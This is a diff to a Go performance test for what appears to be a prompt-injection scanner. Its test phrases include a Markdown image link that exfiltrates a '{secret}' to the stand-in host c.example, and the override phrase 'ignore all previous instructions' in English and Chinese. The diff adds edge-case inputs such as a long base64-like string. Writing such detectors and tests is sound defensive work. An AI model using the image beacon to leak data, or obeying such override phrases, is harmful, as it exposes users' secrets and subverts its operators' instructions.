@@ -28,6 +28,11 @@ func TestWorkIsLinear(t *testing.T) {
 		"![](https://c.example/p?d={secret}) ",
 		"Attackers write ignore all previous instructions; ",
 		"忽略之前的所有指令，",
+		// Issue 27: a run of emphasis, an <img without ">" on a line with
+		// an address, and base64 runs long enough to be judged as blobs.
+		"*",
+		"<img src=x https:// ",
+		"UvImZaYMEtKJGF2VDuiBNgkWb2sRPReNbA/TkB/yOaGglfIPk5VlDPk4C47bIkprJIoekkQ8xR2sPLcJ3q9Zt7WmXe2RfB0yHdLs5VnKc1GuJoTa4iPw8NbE6hMzQYxUlD3gFrSjA9kCv7OtIp2WnHe5BsLqZ0mRdXuG1yKfVc4JaT8hNo ",
 	} {
 		work := func(size int) int {
 			src := bytes.Repeat([]byte(phrase), size/len(phrase))
@@ -36,9 +41,10 @@ func TestWorkIsLinear(t *testing.T) {
 			hits := s.triggers()
 			hits = append(hits, s.encoded()...)
 			hits = append(hits, s.beacons()...)
+			s.blobs(200)
 			// A quoted phrase and a line about attacks are quiet; so are
 			// images on a line too costly for the Markdown parser.
-			if len(hits) == 0 && phrase[0] != 0xe2 && phrase[0] != 'A' && phrase[0] != '!' {
+			if len(hits) == 0 && phrase[0] != 0xe2 && phrase[0] != 'A' && phrase[0] != '!' && phrase[0] != '*' && phrase[0] != '<' && phrase[0] != 'U' {
 				t.Errorf("%q: no hit", phrase)
 			}
 			return s.work
